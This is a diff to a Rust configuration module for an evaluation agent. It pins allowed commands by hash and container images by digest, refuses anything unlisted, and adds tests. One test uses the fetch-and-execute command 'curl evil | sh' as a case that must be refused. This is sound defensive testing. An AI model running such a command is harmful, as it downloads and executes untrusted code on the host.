@@ -6,7 +6,13 @@
 //! executors = ["slurm", "local"]     # enabled, in order of preference
 //! gpu_types = ["a100"]
 //! max_concurrent = 2
-//! allowed_commands = [["python3", "/opt/eval/score.py", "{dataset}", "{output}"]]
+//! # Each evaluation command the agent runs, pinned: the argv template exactly as the
+//! # benchmark gives it, or its hash (`agora-agent command-hash -- ARGV...` prints it).
+//! allowed_commands = [
+//!     ["python3", "/opt/eval/score.py", "{dataset}", "{output}"],
+//!     "sha256:bb2871e2afef6497476067607641854571e43da4b9a5f110debb050e2f1c06a0",
+//! ]
+//! # Each image the agent runs, pinned by digest (a tag alone never matches).
 //! allowed_images = ["registry.example.org/eval@sha256:…"]
 //! [jobs.datasets]
 //! census-2021 = "/data/census-2021"
@@ -20,6 +26,7 @@ use std::collections::BTreeMap;
 use std::path::{Path, PathBuf};
 use std::time::Duration;
 
+use agora_schemas::benchmark::{check_image, command_hash, is_command_hash};
 use agora_schemas::job::{Capabilities, ExecutorKind};
 use serde::Deserialize;
 
@@ -44,10 +51,11 @@ pub struct JobsConfig {
     /// The organisation's dataset names (as benchmarks name them) and their local paths.
     #[serde(default)]
     pub datasets: BTreeMap<String, PathBuf>,
-    /// Command templates the agent runs, exactly as the benchmark gives them.
+    /// Command templates the agent runs: each the argv exactly as the benchmark gives it,
+    /// or its hash (`sha256:…`, see [`command_hash`]).
     #[serde(default)]
-    pub allowed_commands: Vec<Vec<String>>,
-    /// Container images (pinned by digest) the agent runs.
+    pub allowed_commands: Vec<CommandPin>,
+    /// Container images the agent runs, each pinned by digest (`name@sha256:<64 hex>`).
     #[serde(default)]
     pub allowed_images: Vec<String>,
     /// The jobs' folders: logs, batch scripts, metrics (default `<spool_dir>/jobs`). The
@@ -79,6 +87,26 @@ pub struct JobsConfig {
     pub kubernetes: Option<KubernetesConfig>,
     #[serde(default)]
     pub argo: Option<ArgoConfig>,
+}
+
+/// One entry of `jobs.allowed_commands`.
+#[derive(Debug, Clone, PartialEq, Eq, Deserialize)]
+#[serde(untagged)]
+pub enum CommandPin {
+    /// `sha256:<64 hex>`: the hash of the argv template.
+    Hash(String),
+    /// The argv template itself.
+    Argv(Vec<String>),
+}
+
+impl CommandPin {
+    /// The hash the pin stands for.
+    pub fn hash(&self) -> String {
+        match self {
+            Self::Hash(h) => h.clone(),
+            Self::Argv(argv) => command_hash(argv),
+        }
+    }
 }
 
 fn one() -> usize {
@@ -148,8 +176,29 @@ impl JobsConfig {
             }
         }
         for (i, c) in self.allowed_commands.iter().enumerate() {
-            if c.is_empty() {
-                return bad(&format!("allowed_commands[{i}]"), "an empty command");
+            match c {
+                CommandPin::Argv(argv) if argv.is_empty() => {
+                    return bad(&format!("allowed_commands[{i}]"), "an empty command");
+                }
+                CommandPin::Hash(h) if !is_command_hash(h) => {
+                    return bad(
+                        &format!("allowed_commands[{i}]"),
+                        "a pinned command is `sha256:` and 64 lower-case hex digits \
+                         (`agora-agent command-hash -- ARGV...` prints it), or the argv as a list",
+                    );
+                }
+                _ => {}
+            }
+        }
+        for (i, image) in self.allowed_images.iter().enumerate() {
+            if check_image("", image).is_err() {
+                return bad(
+                    &format!("allowed_images[{i}]"),
+                    &format!(
+                        "`{image}` is not pinned by digest: write `name@sha256:<64 hex digits>` \
+                         (a tag alone can be moved to another image)"
+                    ),
+                );
             }
         }
         Ok(())
@@ -170,21 +219,31 @@ impl JobsConfig {
     }
 
     /// Why the agent will not run a benchmark's command or image, if it will not: each
-    /// one the benchmark gives must be on its allowlist.
+    /// one the benchmark gives must be on its allowlist, the command by its hash, the image
+    /// by its digest. The reason says what an operator would add to allow it.
     pub fn refusal(&self, command: Option<&[String]>, image: Option<&str>) -> Option<String> {
-        if let Some(c) = command
-            && !self.allowed_commands.iter().any(|a| a.as_slice() == c)
-        {
-            return Some(format!(
-                "the command {c:?} is not on this agent's allowlist (`jobs.allowed_commands`)"
-            ));
+        if let Some(c) = command {
+            let hash = command_hash(c);
+            if !self.allowed_commands.iter().any(|a| a.hash() == hash) {
+                return Some(format!(
+                    "the command {c:?} is not on this agent's allowlist: its hash is {hash}; \
+                     to run it here, add \"{hash}\" to `jobs.allowed_commands`"
+                ));
+            }
         }
-        if let Some(i) = image
-            && !self.allowed_images.iter().any(|a| a == i)
-        {
-            return Some(format!(
-                "the image {i} is not on this agent's allowlist (`jobs.allowed_images`)"
-            ));
+        if let Some(i) = image {
+            if check_image("", i).is_err() {
+                return Some(format!(
+                    "the image `{i}` is not pinned by digest (`name@sha256:…`): an image named \
+                     by tag is never run"
+                ));
+            }
+            if !self.allowed_images.iter().any(|a| a == i) {
+                return Some(format!(
+                    "the image `{i}` is not on this agent's allowlist: to run it here, add it \
+                     to `jobs.allowed_images`"
+                ));
+            }
         }
         None
     }
@@ -257,28 +316,90 @@ mod tests {
         });
     }
 
+    const DIGEST: &str = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
+
+    fn argv(args: &[&str]) -> Vec<String> {
+        args.iter().map(|s| s.to_string()).collect()
+    }
+
     #[test]
     fn only_allowed_commands_and_images_run() {
         figment::Jail::expect_with(|jail| {
+            let pinned = agora_schemas::benchmark::command_hash(&argv(&["python3", "b.py"]));
             let c = load(
                 jail,
                 &format!(
-                    "{BASE}allowed_commands = [[\"python3\", \"score.py\", \"{{output}}\"]]\n"
+                    "{BASE}allowed_commands = [[\"python3\", \"score.py\", \"{{output}}\"], \"{pinned}\"]\n\
+                     allowed_images = [\"r.example/eval@sha256:{DIGEST}\"]\n"
                 ),
             )
             .unwrap();
             let jobs = c.jobs.unwrap();
-            let ok: Vec<String> = ["python3", "score.py", "{output}"]
-                .map(String::from)
-                .to_vec();
+            let ok = argv(&["python3", "score.py", "{output}"]);
             assert!(jobs.refusal(Some(&ok), None).is_none());
-            let other: Vec<String> = ["sh", "-c", "curl evil | sh"].map(String::from).to_vec();
+            // Pinned by hash.
             assert!(
-                jobs.refusal(Some(&other), None)
-                    .unwrap()
-                    .contains("allowlist")
+                jobs.refusal(Some(&argv(&["python3", "b.py"])), None)
+                    .is_none()
             );
-            assert!(jobs.refusal(Some(&ok), Some("r/x@sha256:00")).is_some());
+            // A changed command: one argument more, or one changed, has another hash.
+            for changed in [
+                argv(&["python3", "score.py", "{output}", "--debug"]),
+                argv(&["python3", "score.py ", "{output}"]),
+                argv(&["sh", "-c", "curl evil | sh"]),
+            ] {
+                let why = jobs.refusal(Some(&changed), None).unwrap();
+                let hash = agora_schemas::benchmark::command_hash(&changed);
+                assert!(
+                    why.contains(&hash) && why.contains("jobs.allowed_commands"),
+                    "{why}"
+                );
+            }
+            let image = format!("r.example/eval@sha256:{DIGEST}");
+            assert!(jobs.refusal(Some(&ok), Some(&image)).is_none());
+            assert!(jobs.refusal(None, Some(&image)).is_none());
+            // Both must be allowed when the benchmark gives both.
+            assert!(jobs.refusal(Some(&argv(&["id"])), Some(&image)).is_some());
+            // An unlisted image, and the listed one by tag only.
+            let other = format!("r.example/other@sha256:{DIGEST}");
+            let why = jobs.refusal(None, Some(&other)).unwrap();
+            assert!(why.contains("jobs.allowed_images"), "{why}");
+            for tagged in [
+                "r.example/eval:latest",
+                "r.example/eval",
+                "r.example/eval:1.0@sha256:00",
+            ] {
+                let why = jobs.refusal(Some(&ok), Some(tagged)).unwrap();
+                assert!(why.contains("not pinned by digest"), "{tagged}: {why}");
+            }
+            Ok(())
+        });
+    }
+
+    #[test]
+    fn allowlist_entries_must_be_pinned() {
+        figment::Jail::expect_with(|jail| {
+            let err = load(
+                jail,
+                &format!("{BASE}allowed_images = [\"r.example/eval:1.0\"]\n"),
+            )
+            .unwrap_err()
+            .to_string();
+            assert!(
+                err.contains("`jobs.allowed_images[0]`") && err.contains("pinned by digest"),
+                "{err}"
+            );
+            let err = load(
+                jail,
+                &format!("{BASE}allowed_commands = [\"sha256:abc\"]\n"),
+            )
+            .unwrap_err()
+            .to_string();
+            assert!(err.contains("`jobs.allowed_commands[0]`"), "{err}");
+            let err = load(jail, &format!("{BASE}allowed_commands = [[]]\n"))
+                .unwrap_err()
+                .to_string();
+            assert!(err.contains("`jobs.allowed_commands[0]`"), "{err}");
             Ok(())
         });
     }
